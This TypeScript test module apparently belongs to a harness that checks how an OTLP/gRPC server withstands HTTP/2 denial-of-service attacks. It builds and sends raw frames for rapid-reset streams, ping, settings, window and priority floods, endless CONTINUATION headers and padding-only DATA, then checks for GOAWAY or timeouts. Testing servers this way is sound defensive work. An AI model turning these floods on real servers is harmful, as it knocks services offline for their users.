/**
 * @module Attacks by frames of HTTP/2 (T23): streams that are reset at once, pings, settings, headers and data without end.
 * What the server does about each is told by its own frames and counters; the attacker never ends a connection first.
 */
import { constants } from 'node:http2';
import type { Attack, Attacker, Outcome } from './otlp-victim-attack.ts';
import {
  ATTACKER,
  callHeaders,
  H2_PREFACE,
  h2Frame,
  h2Frames,
  METHODS,
  SIGNALS,
  type Signal,
} from './otlp-victim-calls.ts';
import { type Poured, pour } from './otlp-victim-pour.ts';

const FRAMES = 20_000;
const BATCH = 100;
/** Longer than any limit of time that the server has when no key says otherwise. */
const PATIENCE_MS = 60_000;
const NOTHING = Buffer.alloc(0);

/** A frame that is sent without end, what comes before it, and what the server does about it. */
interface Flood {
  readonly one: Buffer;
  readonly first: Buffer;
  readonly wanted: Verdict;
}

/**
 * `at once`: GOAWAY with an error, or the connection reset. Where the HTTP/2 library does not mind a frame, however often it
 * comes, time ends it: the connection for want of a call (`header_timeout`), or first the call for want of bytes
 * (`min_rate`, `request_timeout`) and then the connection.
 */
type Verdict = 'at once' | 'for want of a call' | 'its call, then for want of a call';
const CLOSED: Readonly<Record<Verdict, readonly string[]>> = {
  'at once': ['grpc http2'],
  'for want of a call': ['grpc no_call'],
  'its call, then for want of a call': ['grpc min_rate', 'grpc no_call'],
};

function flood(wanted: Verdict, one: Buffer, first: Buffer = NOTHING): Flood {
  return { one, first, wanted };
}

const FLOODS: Readonly<Record<string, Flood>> = {
  pings: flood('at once', h2Frame(6, 0, 0, Buffer.alloc(8))),
  settings: flood('at once', h2Frame(4, 0, 0)),
  'settings that change': flood('at once', h2Frame(4, 0, 0, Buffer.from([0, 1, 0, 0, 16, 0]))),
  windows: flood('for want of a call', h2Frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
  priorities: flood('at once', h2Frame(2, 0, 3, Buffer.alloc(5))),
  'frames of an unknown kind': flood('at once', h2Frame(0xfa, 0, 0, Buffer.alloc(100))),
};

function floodsOf(signal: Signal): Readonly<Record<string, Flood>> {
  const call = h2Frame(1, 4, 1, callHeaders(signal));
  const halfOfHeaders = h2Frame(1, 0, 1, Buffer.from([0x83]));
  const padding = Buffer.concat([Buffer.from([0xff]), Buffer.alloc(255)]);
  return {
    'headers that never end': flood('at once', h2Frame(9, 0, 1, Buffer.alloc(16_000)), halfOfHeaders),
    'continuations of nothing': flood('at once', h2Frame(9, 0, 1), halfOfHeaders),
    'data of nothing': flood('at once', h2Frame(0, 0, 1), call),
    'padding alone': flood('its call, then for want of a call', h2Frame(0, 8, 1, padding), call),
    'windows of a call': flood('its call, then for want of a call', h2Frame(8, 0, 1, Buffer.from([0, 0, 0, 1])), call),
  };
}

export const rapidReset: Attack = async (attacker) => {
  for (const signal of SIGNALS) {
    await attacker.ended(`rapid reset of ${signal}`, 'at once', CLOSED['at once'], () =>
      resetStreams(attacker, METHODS[signal]),
    );
    const streams = Array.from({ length: FRAMES / 10 }, (_, i) => resetAtOnce(signal, 2 * i + 1));
    const resets = flood('at once', Buffer.concat(streams));
    for (const isDeaf of [true, false])
      await attacker.ended(
        `rapid reset of ${signal}, as bytes`,
        'at once',
        CLOSED['at once'],
        () => poured(attacker, resets, 1, isDeaf).outcome,
      );
  }
};

function resetAtOnce(signal: Signal, stream: number): Buffer {
  return Buffer.concat([h2Frame(1, 4, stream, callHeaders(signal)), h2Frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
}

/** Opens and resets streams until the far side has enough or all are through. */
async function resetStreams(attacker: Attacker, path: string): Promise<Outcome> {
  const session = attacker.caller.session();
  let seen = '';
  const closed = new Promise<void>((resolve) => session.on('close', resolve));
  session.on('goaway', (code: number) => {
    seen = `GOAWAY ${code}`;
  });
  session.on('error', (error: NodeJS.ErrnoException) => {
    seen ||= error.code ?? error.message;
  });
  let streams = 0;
  for (; streams < FRAMES && !session.destroyed && !session.closed; streams++) {
    const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc' });
    stream.on('error', () => {});
    stream.close(constants.NGHTTP2_CANCEL);
    if (streams % BATCH === 0) await new Promise((resolve) => setImmediate(resolve));
  }
  const patience = setTimeout(() => session.destroy(), streams < FRAMES ? PATIENCE_MS : 0);
  await closed;
  clearTimeout(patience);
  const isEnded = /^(?:GOAWAY [1-9]|ECONNRESET|EPIPE)/.test(seen);
  return { got: isEnded ? 'at once' : 'went through', seen: `${seen} after ${streams} streams` };
}

/** Each twice: by a client that reads no answers, and by one that does. */
export const frameFloods: Attack = async (attacker) => {
  const all = [...Object.entries(FLOODS), ...SIGNALS.flatMap((signal) => Object.entries(floodsOf(signal)))];
  const outcomes: Promise<void>[] = [];
  for (const isDeaf of [true, false])
    for (const [what, one] of all) {
      const { sent, outcome } = poured(attacker, one, FRAMES / BATCH, isDeaf);
      const name = `flood of ${what}${isDeaf ? ', deaf' : ''}`;
      outcomes.push(attacker.ended(name, one.wanted, CLOSED[one.wanted], () => outcome));
      await sent;
    }
  await Promise.all(outcomes);
};

function poured(attacker: Attacker, { one, first }: Flood, times: number, isDeaf: boolean) {
  const { sent, poured } = pour({
    port: attacker.ports.grpcPort,
    from: ATTACKER,
    first: Buffer.concat([H2_PREFACE, first]),
    again: times === 1 ? one : Buffer.concat(Array.from({ length: BATCH }, () => one)),
    times,
    isDeaf,
    patienceMs: PATIENCE_MS,
  });
  return { sent, outcome: poured.then(outcomeOf) };
}

const RESET_STREAM = 3;
const GOAWAY = 7;

/** By the frames that came; a reset of the connection may take the GOAWAY with it (RFC 9113 §5.4.1). */
function outcomeOf({ isClosed, answer, times, tookMs }: Poured): Outcome {
  const frames = h2Frames(answer);
  const goaway = frames.find(({ type }) => type === GOAWAY)?.content.readUInt32BE(4);
  const isCancelled = frames.some(({ type }) => type === RESET_STREAM);
  const seen = `(GOAWAY ${goaway ?? 'not seen'} after ${times} times, ${tookMs.toFixed(0)} ms)`;
  if (!isClosed) return { got: 'went through', seen };
  if (goaway !== 0) return { got: 'at once', seen };
  return { got: isCancelled ? 'its call, then for want of a call' : 'for want of a call', seen };
}
